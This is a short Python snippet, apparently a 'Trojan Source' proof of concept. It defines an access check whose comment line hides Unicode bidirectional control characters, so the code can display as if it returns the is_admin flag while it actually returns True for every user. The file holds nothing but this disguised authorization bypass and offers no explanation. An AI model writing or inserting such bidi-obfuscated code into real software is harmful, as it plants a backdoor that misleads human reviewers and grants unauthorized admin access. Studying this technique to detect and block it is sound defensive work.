def check(user):
    is_admin = False
    # ‮⁦ return is_admin⁩ ⁦begin
    return True
